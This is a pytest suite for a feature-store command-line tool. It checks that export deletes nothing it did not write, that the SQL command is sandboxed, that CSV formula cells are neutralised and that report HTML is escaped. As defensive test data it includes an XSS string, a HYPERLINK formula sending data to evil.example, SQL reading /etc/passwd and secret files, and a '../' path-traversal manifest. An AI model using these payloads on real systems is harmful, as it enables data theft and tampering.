"""Command-line values: nothing lost, nothing let in.

Each test fails on the code before the fix (noted per test). Stores are tiny and made by hand, so
the file runs in seconds; nothing waits on the wall clock (subprocesses say when they are ready).
"""
import json
import socket
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import duckdb
import polars as pl
import pytest
from typer.testing import CliRunner

from featstore import jobs
from featstore.cli import app
from featstore.store import connect, ensure_embedding_table

HOSTILE = '<img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _run(*args, env=None):
    r = CliRunner().invoke(app, [str(a) for a in args], env=env)
    r.text = " ".join(r.output.split())  # rich wraps long lines
    return r


def _tiny_store(db: Path, sources=("a", "b"), n=3) -> Path:
    """n images per source, a 4-d embedding set 'tiny'; no image files needed."""
    con = connect(db)
    now = datetime(2026, 1, 1)
    for s in sources:
        for i in range(n):
            iid = f"{s}-{i}".encode().hex()
            lab = "covid" if i % 2 else "non_covid"
            con.execute("INSERT INTO images (image_id, source, label, width, height, bit_depth, format, n_bytes, "
                        "path, ingested_at) VALUES (?, ?, ?, 1, 1, 8, 'PNG', 1, ?, ?)", [iid, s, lab, f"/x/{iid}", now])
            con.execute("INSERT INTO occurrences (image_id, source, path, label, origin, ingest_run, ingested_at) "
                        "VALUES (?, ?, ?, ?, 'test', 1, ?)", [iid, s, f"/x/{iid}", lab, now])
    t = ensure_embedding_table(con, 4)
    con.execute(f"INSERT INTO {t} SELECT image_id, 'tiny', 'none', 'original', 4, "
                f"[hash(image_id) % 7, 1, 2, 3]::FLOAT[4], 1, ? FROM images", [now])
    con.close()
    return db


@pytest.fixture
def store(tmp_path):
    return _tiny_store(tmp_path / "fs.duckdb")


def _n_images(db) -> int:
    with duckdb.connect(str(db), read_only=True) as c:
        return c.execute("SELECT count(*) FROM images").fetchone()[0]


def _hold(db, read_only: bool):
    """Another process holding the store; returns once it holds it."""
    p = subprocess.Popen([sys.executable, "-c", f"import duckdb, time; c = duckdb.connect({str(db)!r}, read_only="
                          f"{read_only}); print('held', flush=True); time.sleep(600)"], stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "held"
    return p


def _release(p):
    p.kill()
    p.wait()


# --- item 1: export never deletes what it did not write ---------------------------------------------
# old code: rmtree'd DIR/images, DIR/occurrences, DIR/embeddings and exited 0

def test_export_next_to_a_dataset_deletes_nothing(store, tmp_path):
    d = tmp_path / "d"
    for sub in ("images", "occurrences", "embeddings"):
        (d / sub).mkdir(parents=True)
        (d / sub / "raw.png").write_bytes(b"an X-ray")
    for extra in ([], ["--overwrite"]):
        r = _run("export", "--parquet", d, *extra, "--db", store)
        assert r.exit_code == 2, r.output
        assert "Traceback" not in r.output
        for sub in ("images", "occurrences", "embeddings"):
            assert (d / sub / "raw.png").read_bytes() == b"an X-ray"
    assert "not empty" in _run("export", "--parquet", d, "--db", store).text
    assert "images/raw.png" in r.text and "nothing was removed" in r.text


def test_export_overwrite_replaces_only_its_own_files(store, tmp_path):
    e = tmp_path / "e"
    assert _run("export", "--parquet", e, "--db", store).exit_code == 0
    listed = json.loads((e / "featstore-export.json").read_text())["files"]
    assert "ingest_errors.parquet" in listed and any(f.startswith("embeddings/backbone=tiny/") for f in listed)
    (e / "notes.txt").write_text("mine")
    outside = tmp_path / "outside.txt"
    outside.write_text("mine too")
    # a hostile manifest may not make a later export delete files it never wrote
    m = json.loads((e / "featstore-export.json").read_text())
    m["files"].update({"notes.txt": 4, "../outside.txt": 8})
    (e / "featstore-export.json").write_text(json.dumps(m))
    r = _run("export", "--parquet", e, "--overwrite", "--db", store)
    assert r.exit_code == 0, r.output
    assert (e / "notes.txt").read_text() == "mine" and outside.read_text() == "mine too"
    assert pl.read_parquet(e / "images" / "**" / "*.parquet", hive_partitioning=True).height == 6
    assert sorted(json.loads((e / "featstore-export.json").read_text())["files"]) == sorted(listed)
    assert not list(e.glob(".featstore-export-*"))  # the staging folder is gone
    # a file featstore did not write where the export goes: refused, nothing removed
    stray = next((e / "images").glob("source=a")) / "mine.parquet"
    stray.write_bytes(b"user data")
    before = sorted(p for p in e.rglob("*"))
    r = _run("export", "--parquet", e, "--overwrite", "--db", store)
    assert r.exit_code == 2 and "mine.parquet" in r.text, r.output
    assert stray.read_bytes() == b"user data" and sorted(p for p in e.rglob("*")) == before
    stray.unlink()
    # a link where the export goes is never followed
    real = tmp_path / "real_embeddings"
    real.mkdir()
    (real / "keep.parquet").write_bytes(b"keep")
    for f in list((e / "embeddings").rglob("*.parquet")):
        f.unlink()
    for d in sorted((e / "embeddings").rglob("*"), key=lambda p: -len(p.parts)):
        d.rmdir()
    (e / "embeddings").rmdir()
    (e / "embeddings").symlink_to(real)
    r = _run("export", "--parquet", e, "--overwrite", "--db", store)
    assert r.exit_code == 2 and "embeddings" in r.text, r.output
    assert (real / "keep.parquet").read_bytes() == b"keep"


def test_export_paths_with_a_quote(store, tmp_path):
    # old code pasted the path into SQL: a parser error and a traceback
    out, snap = tmp_path / "it's here", tmp_path / "snap's"
    r = _run("export", "--parquet", out, "--snapshot", snap, "--db", store)
    assert r.exit_code == 0, r.output
    assert pl.read_parquet(out / "embeddings" / "**" / "*.parquet", hive_partitioning=True).height == 6
    r = _run("sql", "SELECT count(*) AS n FROM images", "--format", "csv", "--db", snap)
    assert r.exit_code == 0 and r.stdout.split() == ["n", "6"], r.output


def test_export_while_a_job_writes_does_not_advise_export(store, tmp_path):
    # old code: "... read a Parquet export or snapshot (`featstore export`)", from `featstore export` itself
    p = _hold(store, read_only=False)
    try:
        r = _run("export", "--parquet", tmp_path / "x", "--db", store)
    finally:
        _release(p)
    assert r.exit_code == 2 and "open for writing in another process" in r.text, r.output
    assert f"pid {p.pid}" in r.text
    assert "featstore export" not in r.text and not (tmp_path / "x").exists()


# --- item 2: `featstore sql` is sandboxed -------------------------------------------------------------
# old code: every statement below ran (the store was overwritten, files read, another store emptied)

@pytest.mark.parametrize("opts", ["", " (USE_TMP_FILE false)"])
def test_sql_cannot_overwrite_the_store(store, opts):
    r = _run("sql", f"COPY (SELECT 'x') TO '{store}'{opts}", "--db", store)
    assert r.exit_code == 1 and "not allowed" in r.text and "--out" in r.text, r.output
    r = _run("sql", f"COPY (SELECT 'x') TO '{store}'{opts}", "--write", "--db", store)
    assert r.exit_code == 1
    assert _n_images(store) == 6


def test_sql_reads_no_file_outside_the_store(store, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("k\nhunter2\n")
    for q in ["SELECT * FROM read_text('/etc/passwd')", "SELECT * FROM glob('/etc/*')",
              f"SELECT * FROM glob('{tmp_path}/*')", f"SELECT * FROM read_csv('{secret}')", f"SELECT * FROM '{secret}'",
              f"SELECT * FROM read_blob('{secret}')"]:
        r = _run("sql", q, "--db", store)
        assert r.exit_code == 1 and "hunter2" not in r.output and "root:" not in r.output, (q, r.output)
        assert "disabled by configuration" in r.text, (q, r.output)


def test_sql_allow_read_reads_but_never_writes(store, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "extra.csv").write_text("k\n42\n")
    other = tmp_path / "other.csv"
    other.write_text("k\n7\n")
    r = _run("sql", f"SELECT k FROM read_csv('{data}/extra.csv')", "--allow-read", data, "--format", "csv",
             "--db", store)
    assert r.exit_code == 0 and r.stdout.split() == ["k", "42"], r.output
    r = _run("sql", f"SELECT k FROM '{other}'", "--allow-read", other, "--format", "csv", "--db", store)
    assert r.exit_code == 0 and r.stdout.split() == ["k", "7"], r.output
    # a folder allows itself only, not its neighbour data2 nor the parent
    (tmp_path / "data2").mkdir()
    (tmp_path / "data2" / "x.csv").write_text("k\n1\n")
    assert _run("sql", f"SELECT * FROM '{tmp_path}/data2/x.csv'", "--allow-read", data, "--db", store).exit_code == 1
    # DuckDB itself would let these write into an allowed folder: featstore refuses them first
    for q in [f"COPY (SELECT 1) TO '{data}/extra.csv'", f"COPY (SELECT 1) TO '{data}/new.csv'",
              f"EXPORT DATABASE '{data}/exp'", f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{data}/new.csv'",
              f"ATTACH '{data}/new.duckdb'", f"PREPARE p AS COPY (SELECT 1) TO '{data}/new.csv'",
              f"IMPORT DATABASE '{data}'"]:
        r = _run("sql", q, "--allow-read", data, "--write", "--db", store)
        assert r.exit_code == 1 and "not allowed" in r.text, (q, r.output)
    assert sorted(p.name for p in data.iterdir()) == ["extra.csv"] and (data / "extra.csv").read_text() == "k\n42\n"
    r = _run("sql", "SELECT 1", "--allow-read", tmp_path / "nope", "--db", store)
    assert r.exit_code == 2 and "nope" in r.text


def test_sql_cannot_attach_and_empty_another_store(store, tmp_path):
    other = _tiny_store(tmp_path / "other.duckdb")
    r = _run("sql", f"ATTACH '{other}' AS o (READ_WRITE); DELETE FROM o.images", "--write", "--db", store)
    assert r.exit_code == 1 and "ATTACH" in r.text, r.output
    assert _n_images(other) == 6


def test_sql_no_extensions_no_settings_no_export(store, tmp_path):
    for q in ["INSTALL httpfs", "LOAD httpfs", "FORCE INSTALL spatial", "UPDATE EXTENSIONS",
              "SELECT * FROM read_parquet('https://example.com/x.parquet')",
              "SET enable_external_access = true", "SET autoinstall_known_extensions = true",
              "RESET lock_configuration", f"EXPORT DATABASE '{tmp_path}/exp'",
              f"COPY FROM DATABASE memory TO x"]:
        r = _run("sql", q, "--db", store)
        assert r.exit_code == 1, (q, r.output)
    assert not (tmp_path / "exp").exists()


def test_sql_still_answers_and_writes_with_write(store, tmp_path):
    r = _run("sql", "SET VARIABLE s = 'a'; SELECT count(*) AS n FROM images WHERE source = getvariable('s')",
             "--format", "csv", "--db", store)
    assert r.exit_code == 0 and r.stdout.split() == ["n", "3"], r.output
    assert _run("sql", "PIVOT images ON label USING count(*)", "--db", store).exit_code == 0
    assert _run("sql", "EXPLAIN SELECT * FROM images", "--db", store).exit_code == 0
    assert _run("sql", "CREATE TABLE mine AS SELECT 1 AS a", "--db", store).exit_code == 1  # read-only
    r = _run("sql", "CREATE TABLE mine AS SELECT 1 AS a", "--write", "--db", store)
    assert r.exit_code == 0, r.output
    out = tmp_path / "sub" / "mine.parquet"
    assert _run("sql", "SELECT * FROM mine", "--out", out, "--db", store).exit_code == 0  # --out is Python's
    assert pl.read_parquet(out)["a"].to_list() == [1]
    r = _run("sql", "DELETE FROM mine", "--write", "--out", tmp_path / "x.txt", "--db", store)
    assert r.exit_code == 2 and ".csv, .parquet or .json" in r.text
    assert _run("sql", "SELECT count(*) FROM mine", "--format", "csv", "--db", store).stdout.split()[1] == "1"


def test_api_sandbox_is_there_when_asked(store):
    from featstore import open_store
    from featstore.query import SandboxError

    with open_store(store, sandbox=True) as fs:
        X = fs.sql("SELECT vector FROM embeddings")
        assert X.height == 6
        with pytest.raises(SandboxError):
            fs.sql(f"COPY (SELECT 1) TO '{store}' (USE_TMP_FILE false)")
        with pytest.raises(duckdb.PermissionException):
            fs.sql("SELECT * FROM read_text('/etc/passwd')")
    assert _n_images(store) == 6


# --- item 8: CSV formula cells, raw HTML in the report -----------------------------------------------

def test_csv_neutralises_formula_cells(store, tmp_path):
    q = (f"SELECT '{FORMULA.replace(chr(39), chr(39) * 2)}' AS link, '@SUM(A1)' AS at, '+cmd' AS plus, "
         f"'-2+3' AS minus, chr(9) || '=x' AS tab, -5 AS n, '-5' AS text_number, -0.5 AS f, 'plain' AS ok")
    r = _run("sql", q, "--format", "csv", "--db", store)
    assert r.exit_code == 0, r.output
    out = tmp_path / "x.csv"
    assert _run("sql", q, "--out", out, "--db", store).exit_code == 0
    for text in (r.stdout, out.read_text()):
        row = pl.read_csv(text.encode(), infer_schema=False).row(0, named=True)
        assert row["link"] == "'" + FORMULA and row["at"] == "'@SUM(A1)" and row["plus"] == "'+cmd"
        assert row["minus"] == "'-2+3" and row["tab"] == "'\t=x"
        assert (row["n"], row["text_number"], row["f"], row["ok"]) == ("-5", "-5", "-0.5", "plain")
    r = _run("sql", q, "--format", "json", "--db", store)  # JSON is data, not a spreadsheet: as stored
    assert json.loads(r.stdout)[0]["link"] == FORMULA


def test_report_escapes_source_names(tmp_path):
    from featstore.report import write_report
    from featstore.track import unit_artifacts

    db = _tiny_store(tmp_path / "fs.duckdb", sources=(HOSTILE, FORMULA))
    con = connect(db)
    now = datetime(2026, 1, 1)
    for s in (HOSTILE, FORMULA, "pooled"):
        con.execute("""INSERT INTO results (study, sweep_id, protocol, fold, repeat, test_set, scope, train_sources,
                       test_sources, backbone, weights_id, preprocess, head, target, selection, oracle, seed,
                       code_version, status, n, n_pos, n_neg, auc, auc_lo, auc_hi, n_dropped_shared, created_at)
                       VALUES ('st', 's1', 'loso', ?, 0, 'unseen', 'all', [], [?], 'tiny', 'none', 'original',
                       'logreg', 'binary', 'train-val', false, 0, 'test', 'ok', 3, 1, 2, 0.7, 0.6, 0.8, 0, ?)""",
                    ["pooled" if s == "pooled" else f"heldout={s}", s, now])
    r = write_report(con, tmp_path / "rep")
    con.close()
    for name, shown in (("report.md", "&lt;img src=x onerror=alert\\(1\\)&gt;"),  # Markdown punctuation escaped
                        ("report.html", "&lt;img src=x onerror=alert(1)&gt;")):
        text = (tmp_path / "rep" / name).read_text()
        assert "<img src=x" not in text and shown in text, name
    assert r["study"] == "st"
    (tmp_path / "u").mkdir()  # the per-unit CSV that goes to MLflow
    unit_artifacts(tmp_path / "u", [dict(fold=FORMULA, test_set="unseen", scope="all", n=3, auc=0.7, status="ok")],
                   None, ["a", "b"], "t")
    assert pl.read_csv(tmp_path / "u" / "per_source.csv")["fold"][0] == "'" + FORMULA


# --- item 13: messages that mislead -----------------------------------------------------------------

def test_a_reader_holding_the_store_is_named_as_a_reader(store, tmp_path):
    # old code: "open for writing in another process" while a notebook only reads
    p = _hold(store, read_only=True)
    try:
        r = _run("ingest", "--manifest", tmp_path / "m.csv", "--workers", "1", "--db", store)
    finally:
        _release(p)
    assert r.exit_code == 2, r.output
    assert f"open read-only in another process (pid {p.pid}" in r.text and "open for writing" not in r.text


def test_ctrl_c_in_ingest_says_what_was_stored(tmp_path, synth_manifest, monkeypatch):
    # old code: click's "Aborted!" and exit 1, nothing about the store
    from featstore import ingest as I

    real = I.ingest_rows

    def cut_short(con, rows, *a, **kw):
        rows = list(rows)
        done = real(con, rows[:10], *a, **kw)  # committed
        con.execute("BEGIN")  # the interrupt lands inside the next write
        con.execute("INSERT INTO images (image_id, source, label, width, height, bit_depth, format, n_bytes, path, "
                    "ingested_at) VALUES ('half', 's', 'covid', 1, 1, 8, 'PNG', 1, '/x', now())")
        assert done.n_new_images == 10
        raise KeyboardInterrupt

    monkeypatch.setattr(I, "ingest_rows", cut_short)
    db = tmp_path / "fs.duckdb"
    r = _run("ingest", "--manifest", synth_manifest, "--workers", "1", "--db", db)
    assert r.exit_code == 130, r.output
    assert "interrupted: this run stored 10 new images and 10 manifest rows" in r.text
    assert "run the same command to resume" in r.text
    assert _n_images(db) == 10


def _port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_ui_on_a_busy_port_fails_clearly(tmp_path):
    (tmp_path / "m.db").touch()  # `ui` serves an existing tracking store only
    # old code: printed the URL, MLflow logged "Address already in use" and exited 0
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        r = _run("ui", "--port", port, "--tracking-uri", f"sqlite:///{tmp_path}/m.db")
    assert r.exit_code == 2 and f"127.0.0.1:{port}" in r.text and "in use" in r.text, r.output
    assert "http://" not in r.text


def test_ui_reports_a_server_that_stops(tmp_path, monkeypatch):
    (tmp_path / "m.db").touch()  # `ui` serves an existing tracking store only
    # the child binds late (another process took the port) or dies: exit non-zero, never a silent 0
    port = _port()
    monkeypatch.setattr(jobs, "_mlflow_ui_argv", lambda uri, host, port: [sys.executable, "-c", "raise SystemExit(0)"])
    r = _run("ui", "--port", port, "--tracking-uri", f"sqlite:///{tmp_path}/m.db")
    assert r.exit_code == 1 and "stopped (exit code 0)" in r.text and "http://" not in r.text, r.output
    # a server that answers gets its URL printed, then its end is reported too
    serve_once = ("import socket, sys; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
                  f"s.bind(('127.0.0.1', {port})); s.listen(); s.accept()[0].close(); sys.exit(3)")
    monkeypatch.setattr(jobs, "_mlflow_ui_argv", lambda uri, host, port: [sys.executable, "-c", serve_once])
    r = _run("ui", "--port", port, "--tracking-uri", f"sqlite:///{tmp_path}/m.db")
    assert r.exit_code == 3 and f"at http://127.0.0.1:{port}" in r.text and "stopped (exit code 3)" in r.text


def test_ui_on_the_network_needs_expose_and_warns(tmp_path, monkeypatch):
    (tmp_path / "m.db").touch()  # `ui` serves an existing tracking store only
    # old code: served the unauthenticated UI on 0.0.0.0 without a word
    r = _run("ui", "--host", "0.0.0.0", "--port", _port(), "--tracking-uri", f"sqlite:///{tmp_path}/m.db")
    assert r.exit_code == 2 and "no login" in r.text and "--expose" in r.text, r.output
    monkeypatch.setattr(jobs, "_mlflow_ui_argv", lambda uri, host, port: [sys.executable, "-c", "raise SystemExit(0)"])
    r = _run("ui", "--host", "0.0.0.0", "--expose", "--port", _port(), "--tracking-uri", f"sqlite:///{tmp_path}/m.db")
    assert "WARNING: the MLflow UI has no authentication" in r.text, r.output
    assert "--expose" in " ".join(_run("ui", "--help").output.split())


# --- item 14: bad command-line values --------------------------------------------------------------

@pytest.mark.parametrize("limit", ["-5", "0"])
def test_embed_limit_below_one_is_refused(store, limit):
    # old code: --limit 0 embedded every image (as no limit), -5 ran too; now nothing runs
    r = _run("embed", "--backbone", "pixelstats", "--limit", limit, "--workers", "0", "--db", store)
    assert r.exit_code == 2 and "--limit" in r.text and "Traceback" not in r.output, r.output
    with duckdb.connect(str(store), read_only=True) as c:
        assert c.execute("SELECT count(*) FROM embed_runs").fetchone()[0] == 0


@pytest.mark.parametrize("backbone,name", [("onnx", "model.onnx"), ("mobilenetv3-nih-onnx", "m.onnx"),
                                           ("tv-resnet50-imagenet", "w.pth"), ("xrv-densenet121-res224-all", "w.pt"),
                                           ("pixelstats", "w.bin")])
def test_embed_with_a_file_that_is_not_weights(store, tmp_path, backbone, name):
    # old code: a traceback (onnx DecodeError, torch IndexError), or for xrv the file ignored and a download tried
    junk = tmp_path / name
    junk.write_text("root:x:0:0:root:/root:/bin/bash\n")
    r = _run("embed", "--backbone", backbone, "--weights", junk, "--db", store)
    assert r.exit_code == 2 and "Traceback" not in r.output, r.output  # an uncaught exception exits 1
    assert r.text.startswith(f"error: --weights {junk}:") and r.text.count("error:") == 1, r.output


def test_empty_featstore_db_is_named(tmp_path, monkeypatch):
    # old code: a DuckDB traceback about reading a directory
    monkeypatch.chdir(tmp_path)
    for args in (["sql", "SELECT 1"], ["ingest", "--manifest", "m.csv"], ["export", "--parquet", "x"]):
        for value in ("", "  "):
            r = _run(*args, env={"FEATSTORE_DB": value})
            assert r.exit_code == 2 and "FEATSTORE_DB is set but empty" in r.text, (args, value, r.output)
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no store named "  " was made
    from featstore.store import default_db_path

    monkeypatch.setenv("FEATSTORE_DB", "")
    with pytest.raises(FileNotFoundError, match="FEATSTORE_DB"):
        default_db_path()


def test_a_benchmark_never_clears_a_folder_it_did_not_make(tmp_path):
    """benchmarks/ remake their stores in --workdir (end_to_end.py empties it): a folder holding anything a
    benchmark did not make is refused before anything is touched; a link inside a benchmark's own folder
    is removed, never followed."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("bench_common", Path(__file__).resolve().parents[1] /
                                                  "benchmarks" / "_common.py")
    common = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(common)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work")
    for clear in (False, True):
        with pytest.raises(SystemExit, match="holds files no featstore benchmark made.*nothing was removed"):
            common.bench_workdir(mine, clear=clear)
    assert [p.name for p in mine.iterdir()] == ["thesis.tex"]
    with pytest.raises(SystemExit, match="is a file, not a folder"):
        common.bench_workdir(mine / "thesis.tex", clear=True)
    work = common.bench_workdir(tmp_path / "new" / "bench")  # made and marked
    (work / "featstore.duckdb").write_text("a store")
    (work / "n1000").mkdir()
    (work / "n1000" / "x").write_text("x")
    (work / "elsewhere").symlink_to(mine, target_is_directory=True)
    assert common.bench_workdir(work) == work and (work / "featstore.duckdb").exists()  # reused, not cleared
    common.bench_workdir(work, clear=True)
    assert [p.name for p in work.iterdir()] == [common.MARK]
    assert (mine / "thesis.tex").read_text() == "years of work"
    empty = tmp_path / "empty"
    empty.mkdir()
    assert common.bench_workdir(empty, clear=True) == empty and (empty / common.MARK).is_file()


def test_make_bench_keeps_the_notes_below_its_line_and_refuses_a_file_it_did_not_write(tmp_path, monkeypatch):
    """benchmarks/run_all.py rewrites RESULTS.md above its KEEP line only: the sessions' notes below it survive
    a run, and a file without the line (not one it wrote) is refused before any benchmark runs."""
    import importlib.util

    here = Path(__file__).resolve().parents[1] / "benchmarks"
    monkeypatch.syspath_prepend(str(here))
    spec = importlib.util.spec_from_file_location("bench_run_all", here / "run_all.py")
    run_all = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(run_all)
    out = tmp_path / "RESULTS.md"
    run_all.write_results(out, ["# first run", "table 1"])
    assert out.read_text().endswith(run_all.KEEP + "\n")
    out.write_text(out.read_text() + "\n## A session's notes\n\nmeasured by hand\n")
    run_all.write_results(out, ["# second run", "table 2"])
    text = out.read_text()
    assert text.startswith("# second run\n\ntable 2\n\n" + run_all.KEEP)
    assert text.endswith("## A session's notes\n\nmeasured by hand\n") and "table 1" not in text
    theirs = tmp_path / "thesis.md"
    theirs.write_text("years of work")
    with pytest.raises(SystemExit, match="thesis.md: exists without the line"):
        run_all.kept_notes(theirs)
    monkeypatch.setattr(run_all, "run", lambda *a, **k: pytest.fail("a benchmark ran before the refusal"))
    monkeypatch.setattr(sys, "argv", ["run_all.py", "--out", str(theirs), "--workdir", str(tmp_path / "w")])
    with pytest.raises(SystemExit, match="exists without the line"):
        run_all.main()
    assert theirs.read_text() == "years of work" and not list(tmp_path.glob("*.part"))
    for shipped in ("RESULTS.md", "RESULTS-gpu.md"):  # the shipped files have their line, once
        assert (here / shipped).read_text().count(run_all.KEEP) == 1
